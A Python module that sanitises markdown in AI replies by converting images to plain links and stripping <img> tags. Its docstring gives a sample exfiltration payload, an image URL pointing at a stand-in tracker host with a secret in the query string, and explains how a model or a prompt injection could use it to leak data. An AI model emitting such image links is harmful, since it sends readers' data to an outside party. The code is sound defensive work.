"""Markdown for finished replies: no raw HTML in, only sanitised HTML out.

Images are never loaded: a model's ``![alt](https://tracker.example/pixel?secret)`` would
make every reader's browser request a URL the model (or a prompt injection) chose, leaking
that the reply was read, from where, and whatever the URL carries. Each image becomes a
link labelled with its alt text instead, so a reader can open it on purpose; nh3 also
drops any <img> as a second line of defence, whatever the CSP says.
"""

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")

# Everything nh3 allows by default, less the elements that fetch by themselves.
ALLOWED_TAGS = nh3.ALLOWED_TAGS - {"img"}


def image_as_link(self, tokens, idx, options, env) -> str:
    """``![alt](src)`` as ``<a href="src">alt</a>`` (src was validated by markdown-it)."""
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    return f'<a href="{escapeHtml(token.attrGet("src") or "")}">{escapeHtml(alt)}</a>'


md.add_render_rule("image", image_as_link)


def render_markdown(text: str) -> str:
    return nh3.clean(md.render(text), tags=ALLOWED_TAGS, link_rel="noopener noreferrer")
